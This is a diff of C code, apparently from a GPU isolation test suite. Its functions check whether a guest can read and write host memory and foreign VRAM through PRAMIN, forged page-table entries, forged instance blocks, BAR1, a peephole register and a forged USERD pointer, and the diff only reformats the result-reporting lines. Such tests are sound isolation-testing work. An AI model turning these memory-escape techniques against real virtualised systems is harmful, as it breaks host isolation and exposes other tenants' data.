@@ -51,21 +51,23 @@ void attack_window(struct machine *m)
 	for (i = 0; i < 2; i++) {
 		pattern_fill(secret, SECRET_BYTES, 10 + i);
 		bare_mem_read(g, targets[i], bus, stolen, sizeof(stolen));
-		tap_result(!memcmp(stolen, secret, SECRET_BYTES), i ?
-			   "attack works: PRAMIN reads host memory (non-coherent target)" :
-			   "attack works: PRAMIN reads host memory (coherent target)", "at %llx", (unsigned long long)bus);
+		tap_result(!memcmp(stolen, secret, SECRET_BYTES),
+			   i ? "attack works: PRAMIN reads host memory (non-coherent target)" :
+			       "attack works: PRAMIN reads host memory (coherent target)",
+			   "at %llx", (unsigned long long)bus);
 		bare_mem_write32(g, targets[i], bus + 512, 0x0bad0bad + i);
-		tap_result(*(volatile uint32_t *)(secret + 512) == 0x0bad0bad + i, i ?
-			   "attack works: PRAMIN writes host memory (non-coherent target)" :
-			   "attack works: PRAMIN writes host memory (coherent target)", NULL);
+		tap_result(*(volatile uint32_t *)(secret + 512) == 0x0bad0bad + i,
+			   i ? "attack works: PRAMIN writes host memory (non-coherent target)" :
+			       "attack works: PRAMIN writes host memory (coherent target)",
+			   NULL);
 	}
 	pattern_fill(stolen, sizeof(stolen), 5);
 	bare_mem_write(g, BARE_VRAM, vram, stolen, sizeof(stolen));
 	for (i = 0; i < SECRET_BYTES / 4; i += 64)
 		if (bare_mem_read32(g, BARE_VRAM, vram + 4 * i) != stolen[i])
 			break;
-	tap_result(i >= SECRET_BYTES / 4, "attack works: PRAMIN reads and writes any place of VRAM", "at %llx",
-		   (unsigned long long)vram);
+	tap_result(i >= SECRET_BYTES / 4, "attack works: PRAMIN reads and writes any place of VRAM",
+		   "at %llx", (unsigned long long)vram);
 }
 
 void attack_tables(struct machine *m)
@@ -92,16 +94,19 @@ void attack_tables(struct machine *m)
 	bare_copy(&c, SECRET_VA, LOOT_VA, SECRET_BYTES, 0);
 	ran = bare_run(&c, RUN_MS);
 	tap_result(ran && !memcmp(loot, secret, SECRET_BYTES),
-		   "attack works: a forged PTE and a raw instance pointer read host memory", "channel ran: %d", ran);
+		   "attack works: a forged PTE and a raw instance pointer read host memory",
+		   "channel ran: %d", ran);
 	memset(loot, 0x66, 256);
 	bare_copy(&c, LOOT_VA, SECRET_VA + 2048, 256, 0);
 	ran = bare_run(&c, RUN_MS);
-	tap_result(ran && !memcmp(secret + 2048, loot, 256), "attack works: a forged PTE writes host memory", NULL);
+	tap_result(ran && !memcmp(secret + 2048, loot, 256),
+		   "attack works: a forged PTE writes host memory", NULL);
 	pattern_fill(text, sizeof(text), 3);
 	bare_mem_write(g, BARE_VRAM, vram, text, sizeof(text));
 	bare_copy(&c, VRAM_VA, LOOT_VA, sizeof(text), 0);
 	ran = bare_run(&c, RUN_MS);
-	tap_result(ran && !memcmp(loot, text, sizeof(text)), "attack works: a forged PTE reads any VRAM", NULL);
+	tap_result(ran && !memcmp(loot, text, sizeof(text)),
+		   "attack works: a forged PTE reads any VRAM", NULL);
 	close_channel(&c);
 }
 
@@ -127,7 +132,8 @@ void attack_bar1(struct machine *m)
 
 	bare_mem_write32(g, BARE_VRAM, vram, 0xabcd0123);
 	tap_result(*(volatile uint32_t *)(g->bars.bar1 + vram) == 0xabcd0123,
-		   "attack works: BAR1 in physical mode shows VRAM from 0 on", "at %llx", (unsigned long long)vram);
+		   "attack works: BAR1 in physical mode shows VRAM from 0 on", "at %llx",
+		   (unsigned long long)vram);
 	bare_space_create(g, &s);
 	inst = forged_instance(g, &s);
 	bare_space_map(g, &s, BARE_VA_FREE, BARE_HOST, bus & ~4095ull);
@@ -141,9 +147,12 @@ void attack_bar1(struct machine *m)
 	bare_tlb_invalidate(g, BARE_VRAM, s.pdb);
 	second = *seen;
 	bare_write(g, HOSTMEM_BAR1, 0);
-	tap_result(first == 0x5ec2e700, "attack works: BAR1 through a forged instance block shows host memory", "read %x",
-		   first);
-	tap_result(second == 0xabcd0123, "attack works: the same BAR1 page is pointed at foreign VRAM", "read %x", second);
+	tap_result(first == 0x5ec2e700,
+		   "attack works: BAR1 through a forged instance block shows host memory",
+		   "read %x", first);
+	tap_result(second == 0xabcd0123,
+		   "attack works: the same BAR1 page is pointed at foreign VRAM", "read %x",
+		   second);
 }
 
 void attack_peephole(struct machine *m)
@@ -168,8 +177,10 @@ void attack_peephole(struct machine *m)
 	bare_write(g, PEEPHOLE_DATA, 0x1eaf);
 	(void)bare_read(g, PEEPHOLE_ADDR_LOW);
 	bare_write(g, HOSTMEM_PEEPHOLE, 0);
-	tap_result(got == 0x9e3779b9, "attack works: the peephole reads any address of any instance", "read %x", got);
-	tap_result(*(volatile uint32_t *)(secret + 128) == 0x1eaf, "attack works: the peephole writes there", NULL);
+	tap_result(got == 0x9e3779b9,
+		   "attack works: the peephole reads any address of any instance", "read %x", got);
+	tap_result(*(volatile uint32_t *)(secret + 128) == 0x1eaf,
+		   "attack works: the peephole writes there", NULL);
 }
 
 /* The chip writes a channel's progress (GP_GET) to the address in RAMFC. */
@@ -198,7 +209,8 @@ void attack_userd(struct machine *m)
 	bare_runlist(g, cfg.runlist, &entry, 1);
 	ran = bare_run(&c, RUN_MS);
 	bare_poll_word(g, written, 1, RUN_MS);
-	tap_result(ran && *written != 0xfefefefe, "attack works: a forged USERD pointer makes the chip write host memory",
+	tap_result(ran && *written != 0xfefefefe,
+		   "attack works: a forged USERD pointer makes the chip write host memory",
 		   "GP_GET there: %x", *written);
 	close_channel(&c);
 }
